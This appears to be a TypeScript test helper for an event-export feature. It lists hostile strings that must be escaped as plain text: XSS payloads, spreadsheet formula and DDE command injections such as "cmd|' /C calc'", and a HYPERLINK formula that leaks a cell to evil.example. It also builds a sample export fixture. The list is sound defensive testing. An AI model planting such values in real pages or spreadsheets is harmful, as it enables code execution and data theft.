import { calculationById } from '../core/calculation';
import { makeCalendar, noFilter } from '../core/calendar';
import { type EventColumns, type TimeRange } from '../core/events';
import { type ExportSource } from '../export/exportSource';
import { foldEvents, type FoldChoice } from './foldEvents';

/** Texts that mean something to a page, a spreadsheet or a ticket, and must stay texts. */
export const hostileTexts: readonly string[] = [
  '</script><script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '"><svg onload=window.hacked=1>',
  "'><b>bold</b>",
  '=HYPERLINK("http://evil.example/?"&A1,"here")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  ' "=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '![x](http://evil.example/x.png)',
  '[x](javascript:alert(1))',
  'a|b\nc',
  '<!-- ]]> -->',
  '\u202egnp.exe',
  "x;=cmd|' /C calc'!A0;y",
  'x;"=1+1',
  'x; " -2+3"',
  'x\t+1',
  'x|@SUM(1)',
  'x,=1+1',
  'x\r\n=1+1',
  'x;"',
  'www.evil.example',
  'a@evil.example',
  '@everyone',
  '$x$',
];

/** What can be exported of events but pictures. */
export type TextExport = Omit<ExportSource, 'sceneAt' | 'legendOf' | 'colors' | 'fontFamily' | 'size' | 'subtitles'>;

/** Returns what can be exported of events that are folded by weekday and hour in UTC, unless something else is chosen. */
export function exportOf(events: EventColumns, range: TimeRange, choice: FoldChoice = {}): TextExport {
  const { columns = 'hour', rows = 'weekday', zone = 'UTC', calculation = 'sum' } = choice;
  const fold = foldEvents([events], range, { ...choice, calculation });
  const calendar = makeCalendar(
    {
      columns,
      rows,
      zone,
      weekStart: choice.weekStart ?? 'monday',
      dayStartMinute: choice.dayStartMinute ?? 0,
      filter: { ...noFilter, ...choice.filter },
    },
    range
  );
  return {
    title: 'Sessions',
    summary: 'Sum of sessions by weekday and hour.',
    provenance: [{ name: 'Panel', value: 'Sessions' }],
    windowProvenance: [{ name: 'Panel', value: 'Sessions of windows' }],
    annotations: [],
    range,
    zone,
    locale: 'en-US',
    fold,
    words: {
      value: 'Sum of sessions',
      total: 'sessions',
      marginal: 'Total',
      columns: 'Hour',
      rows: 'Weekday',
      countsEvents: false,
    },
    format: (value) => value.toLocaleString('en-US'),
    windowValue: { title: 'Sum of sessions', format: (value) => value.toLocaleString('en-US'), countsEvents: false },
    share: { name: 'Share of all', textOf: (cell) => (fold.cellEvents[cell] > 0 ? `share ${cell}` : '') },
    bucketText: (axis, bucket) => `${axis.kind} ${bucket}`,
    cellText: (column, row) => `cell ${column} ${row}`,
    blockSource: { slots: fold.slots, calendar, range, calculation: calculationById(calculation), fold },
    chosen: null,
  };
}
